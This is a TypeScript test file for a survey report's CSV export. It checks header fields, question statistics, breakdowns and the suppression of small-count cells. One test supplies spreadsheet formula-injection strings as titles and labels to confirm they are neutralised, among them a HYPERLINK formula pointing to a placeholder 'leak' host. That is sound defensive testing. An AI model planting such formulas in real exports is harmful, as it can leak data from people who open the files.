import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, reportToCsv, SUPPRESSED_MARK } from './report-csv';
import { sampleReport } from './sample-report.fixture';

type Record = { [column in (typeof CSV_COLUMNS)[number]]: string };

/** Splits the CSV into its `key,value` header lines and the records of its table. */
function readBack(csv: string): { header: Map<string, string>; records: Record[] } {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const [head, table] = csv.slice(1).split('\r\n\r\n');
  const header = new Map(parse(head, { relax_column_count: false }).map(([key, value]: string[]) => [key, value]));
  const records: Record[] = parse(table, { columns: true });
  return { header, records };
}

const find = (records: Record[], match: Partial<Record>): Record[] =>
  records.filter((record) => Object.entries(match).every(([key, value]) => record[key as keyof Record] === value));

describe('reportToCsv', () => {
  const report = sampleReport();
  const { header, records } = readBack(reportToCsv(report));

  it('starts with what the report is: title, survey, period, n, k, language', () => {
    expect(header.get('report')).toBe('Filer satisfaction 2025');
    expect(header.get('survey')).toBe('User satisfaction survey 2025');
    expect(header.get('period_first')).toBe('2025-03-03T09:12:00.000Z');
    expect(header.get('period_last')).toBe('2025-04-28T17:40:00.000Z');
    expect(header.get('responses')).toBe('137');
    expect(header.get('k')).toBe('5');
    expect(header.get('language')).toBe('en');
    expect(header.get('filter_from')).toBe('2025-03-01T00:00:00.000Z');
    expect(header.get('published_at')).toBe('2025-05-05T14:30:00.000Z');
  });

  it('has one column set for every line of the table', () => {
    expect(Object.keys(records[0])).toEqual([...CSV_COLUMNS]);
  });

  it('writes each question’s overall figures and its answers', () => {
    const [nps] = find(records, { section: 'overall', item: 'recommend' });
    expect(nps).toMatchObject({
      item_type: 'nps',
      n: '130',
      mean: '6.93',
      nps: '8.46',
      promoters: '0.3231',
      suppressed: '',
    });
    expect(Number(nps.passives)).toBeCloseTo(1 - 0.3231 - 0.2385, 6);
    expect(nps.top_two_box).toBe('');

    const [satisfaction] = find(records, { section: 'overall', item: 'satisfaction' });
    expect(satisfaction).toMatchObject({
      n: '134',
      mean: '3.87',
      ci_low: '3.67',
      ci_high: '4.07',
      top_two_box: '0.6866',
    });
    expect(satisfaction.nps).toBe('');

    const [patents] = find(records, { section: 'answer', item: 'services', answer: 'patents' });
    expect(patents).toMatchObject({
      answer_label: 'Patents',
      count: '88',
      share: String(Math.round((88 / 121) * 1e6) / 1e6),
    });
    const [good] = find(records, { section: 'answer', item: 'quality.timeliness', answer: 'good' });
    expect(good).toMatchObject({ question: 'Quality of service — Timeliness', item_type: 'matrix', count: '60' });
  });

  it('writes suppressed answers as suppressed, with the reason, never as 0 or empty', () => {
    const [zero] = find(records, { section: 'answer', item: 'recommend', answer: '0' });
    expect(zero).toMatchObject({ count: SUPPRESSED_MARK, share: SUPPRESSED_MARK, suppressed: 'primary' });
    const [one] = find(records, { section: 'answer', item: 'recommend', answer: '1' });
    expect(one).toMatchObject({ count: SUPPRESSED_MARK, share: SUPPRESSED_MARK, suppressed: 'complementary' });
    const [two] = find(records, { section: 'answer', item: 'recommend', answer: '2' });
    expect(two).toMatchObject({ count: '5', suppressed: '' });
  });

  it('writes breakdown groups with their respondents and figures; suppressed groups say so', () => {
    const [france] = find(records, { section: 'breakdown', dimension: 'country', group: 'FR', item: '' });
    expect(france).toMatchObject({ group_label: 'France', n: '60', suppressed: '' });
    const [franceNps] = find(records, { section: 'breakdown', dimension: 'country', group: 'FR', item: 'recommend' });
    expect(franceNps).toMatchObject({ n: '57', nps: '14.04', mean: '7.21' });

    const [luxembourg] = find(records, { section: 'breakdown', group: 'LU', item: '' });
    expect(luxembourg).toMatchObject({ n: SUPPRESSED_MARK, suppressed: 'primary' });
    const [luxembourgNps] = find(records, { section: 'breakdown', group: 'LU', item: 'recommend' });
    expect(luxembourgNps).toMatchObject({
      n: SUPPRESSED_MARK,
      mean: SUPPRESSED_MARK,
      nps: SUPPRESSED_MARK,
      promoters: SUPPRESSED_MARK,
      top_two_box: '',
      suppressed: 'primary',
    });
    const [switzerland] = find(records, { section: 'breakdown', group: 'CH', item: 'satisfaction' });
    expect(switzerland).toMatchObject({
      n: SUPPRESSED_MARK,
      top_two_box: SUPPRESSED_MARK,
      suppressed: 'complementary',
    });

    const segments = find(records, { section: 'breakdown', dimension: 'segment', item: '' });
    expect(segments.map((record) => [record.group, record.n])).toEqual([
      ['agent', '70'],
      ['applicant', '45'],
      ['holder', '22'],
    ]);
  });

  it('writes crosstab cells and margins, with primary and complementary cells suppressed', () => {
    const cell = (group: string, group2: string, item = '') =>
      find(records, { section: 'crosstab', dimension: 'country', dimension2: 'segment', group, group2, item });
    expect(cell('FR', 'agent')[0]).toMatchObject({ group_label: 'France', group2_label: 'Agent', n: '30' });
    expect(cell('DE', 'holder')[0]).toMatchObject({ n: '6', suppressed: '' });
    expect(cell('LU', 'agent')[0]).toMatchObject({ n: SUPPRESSED_MARK, suppressed: 'primary' });
    expect(cell('CH', 'applicant')[0]).toMatchObject({ n: SUPPRESSED_MARK, suppressed: 'complementary' });
    expect(cell('FR', '*')[0]).toMatchObject({ n: '60' });
    expect(cell('CH', '*')[0]).toMatchObject({ n: SUPPRESSED_MARK, suppressed: 'complementary' });
    expect(cell('*', 'holder')[0]).toMatchObject({ n: '22' });
    expect(cell('*', '*')[0]).toMatchObject({ n: '137' });
    expect(cell('FR', 'agent', 'recommend')[0]).toMatchObject({ n: '29', nps: '17.24' });
    expect(cell('LU', 'holder', 'recommend')[0]).toMatchObject({
      n: SUPPRESSED_MARK,
      nps: SUPPRESSED_MARK,
      suppressed: 'primary',
    });
  });

  it('never writes a suppressed figure as a number', () => {
    for (const record of records.filter((r) => r.suppressed !== '')) {
      const numbers = CSV_COLUMNS.filter((column) => ['n', 'count', 'share', 'mean', 'nps'].includes(column)).map(
        (column) => record[column],
      );
      expect(numbers.some((value) => /^-?\d/.test(value))).toBe(false);
      expect(numbers).toContain(SUPPRESSED_MARK);
    }
  });

  it('keeps negative figures as numbers', () => {
    const report = sampleReport();
    report.content.items[0].overall.nps = { score: -12.5, promoters: 0.2, passives: 0.475, detractors: 0.325 };
    const { records } = readBack(reportToCsv(report));
    expect(find(records, { section: 'overall', item: 'recommend' })[0].nps).toBe('-12.5');
  });

  it.each(['=HYPERLINK("http://x.example/?leak")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tTAB', '\rCR'])(
    'neutralises a title or label that a spreadsheet would run as a formula: %j',
    (dangerous) => {
      const report = sampleReport({ title: dangerous, surveyTitle: dangerous });
      report.content.items[2].title = dangerous;
      report.content.items[2].distribution[0].label = dangerous;
      report.content.breakdowns[0].groups[0].label = dangerous;
      const { header, records } = readBack(reportToCsv(report));
      expect(header.get('report')).toBe(`'${dangerous}`);
      expect(header.get('survey')).toBe(`'${dangerous}`);
      for (const record of find(records, { item: 'services' })) expect(record.question).toBe(`'${dangerous}`);
      expect(find(records, { section: 'answer', item: 'services', answer: 'patents' })[0].answer_label).toBe(
        `'${dangerous}`,
      );
      expect(find(records, { section: 'breakdown', group: 'FR', item: '' })[0].group_label).toBe(`'${dangerous}`);
      for (const record of records) {
        for (const value of Object.values(record)) expect(/^[=+@\t\r]/.test(value)).toBe(false);
      }
    },
  );

  it('writes number, date and expression summaries: mean and quartiles, month range, withheld ones marked', () => {
    const [filings] = find(records, { section: 'measure', item: 'filings' });
    expect(filings).toMatchObject({
      item_type: 'number',
      n: '128',
      mean: '14.25',
      q1: '3',
      median: '8.5',
      q3: '21.75',
    });
    expect(filings.from_month).toBe('');
    const [date] = find(records, { section: 'measure', item: 'lastFiling' });
    expect(date).toMatchObject({ item_type: 'date', n: '120', from_month: '2023-02', to_month: '2025-04', mean: '' });
    const [score] = find(records, { section: 'measure', item: 'effortScore' });
    expect(score).toMatchObject({
      item_type: 'expression',
      n: SUPPRESSED_MARK,
      mean: SUPPRESSED_MARK,
      median: SUPPRESSED_MARK,
      suppressed: 'composition',
    });
  });
});
